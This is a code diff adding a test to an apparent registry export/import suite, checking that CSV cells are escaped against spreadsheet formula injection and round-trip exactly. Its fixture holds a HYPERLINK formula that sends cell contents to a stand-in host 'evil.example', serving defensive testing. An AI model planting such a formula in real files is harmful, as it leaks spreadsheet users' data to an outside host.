@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import pino from 'pino';
 import sharp from 'sharp';
@@ -106,6 +107,49 @@ describe('export and import of the whole registry', () => {
     expect(header).toBe(
       'id,name,shortName,otherNames,kind,legalForm,sector,country,region,locality,latitude,longitude,languages,foundingYear,membersTotal,membersWomen,membersMen,employees,website,contacts,description,descriptions,principles,isDemo,version,createdAt,updatedAt',
     );
+  });
+
+  it('csv: text cells are safe to open in a spreadsheet, and come back exactly', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+    const fields = {
+      name: formula,
+      shortName: "'Quoted",
+      legalForm: '@cooperative',
+      region: '+91 Region',
+      description: '- one\n- two',
+      coordinates: { lat: -33.45, lon: -70.66 },
+      contacts: { phone: '+919876543210' },
+    };
+    const first = await emptyInstance(async (ctx, api) => {
+      await api.createOrganization(fields);
+      return exportRegistry(ctx, 'csv');
+    });
+    const files = unzipSync(new Uint8Array(first.body));
+    for (const [name, content] of Object.entries(files)) {
+      if (!name.endsWith('.csv')) continue;
+      for (const cell of parse(strFromU8(content)).flat() as string[]) {
+        // Only numbers (a negative latitude) may start with a sign.
+        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
+      }
+    }
+    const [header, row] = parse(strFromU8(files['organizations.csv'] as Uint8Array)) as string[][];
+    const cell = (column: string) => row?.[header?.indexOf(column) ?? -1];
+    expect(cell('name')).toBe(`'${formula}`);
+    expect(cell('shortName')).toBe("''Quoted");
+    expect(cell('latitude')).toBe('-33.45');
+    expect(JSON.parse(cell('contacts') ?? '')).toEqual({ phone: '+919876543210' });
+    await emptyInstance(async (ctx, api) => {
+      await importRegistry(ctx, { bytes: first.body, format: 'csv' });
+      const [imported] = (
+        await api.app.inject({ method: 'GET', url: '/api/network/organizations' })
+      ).json().items;
+      const read = (
+        await api.app.inject({ method: 'GET', url: `/api/network/organizations/${imported.id}` })
+      ).json();
+      expect(read).toMatchObject(fields);
+      const again = await exportRegistry(ctx, 'csv');
+      expect(again.body.equals(first.body), 'the second export differs from the first').toBe(true);
+    });
   });
 
   it('a file with one bad line stores nothing and names the line and the field', async () => {
